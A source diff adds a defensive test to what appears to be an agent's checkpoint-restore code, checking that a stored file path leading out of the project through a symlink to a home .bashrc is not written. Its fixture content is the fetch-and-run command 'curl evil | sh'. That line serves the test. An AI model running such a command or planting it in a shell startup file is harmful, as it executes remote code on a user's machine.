@@ -28,6 +28,7 @@ from actors.protocol import (
 )
 from actors.session_store import read_events, session_path
 from actors.session_store.files import import_events
+from actors.tool_executor.checkpoints import restore
 from frontends.session import memory_store, session_store, ui_actor
 from frontends.session_options import SessionOptions
 from runtime import ActorCrashed, supervise
@@ -186,6 +187,29 @@ def test_a_stored_checkpoint_restores_no_file_outside_the_project(tmp_path: Path
         MessageAdded(user("hi")),
     ]
     assert read_events(str(tmp_path / "sessions" / "s.jsonl")) == saved
+
+
+def test_a_stored_file_whose_path_leads_out_through_a_link_is_not_restored(
+    tmp_path: Path,
+) -> None:
+    # The project holds a link out of it (a cloned repository may): a stored entry that names
+    # a file through it, without where it led when it was recorded, would be written there.
+    root, home = tmp_path / "p", tmp_path / "home"
+    root.mkdir()
+    home.mkdir()
+    (home / ".bashrc").write_text("mine\n")
+    (root / "link").symlink_to(home)
+    through = FileBefore(path=str(root / "link" / ".bashrc"), content=b"curl evil | sh")
+    lying = FileBefore(
+        path=str(root / "link" / ".bashrc"), content=b"x", real=str(root / "link" / ".bashrc")
+    )
+    source = tmp_path / "stored.jsonl"
+    taken = CheckpointTaken(Checkpoint(prompt=1, files=(through, lying)))
+    source.write_bytes(msgspec.json.encode(taken) + b"\n")
+    (saved,) = import_events(str(source), None, str(root))
+    assert isinstance(saved, CheckpointTaken)
+    restore(saved.checkpoint.files, str(root))
+    assert (home / ".bashrc").read_text() == "mine\n"
 
 
 def test_a_symlink_where_the_session_goes_is_not_written_through(tmp_path: Path) -> None:
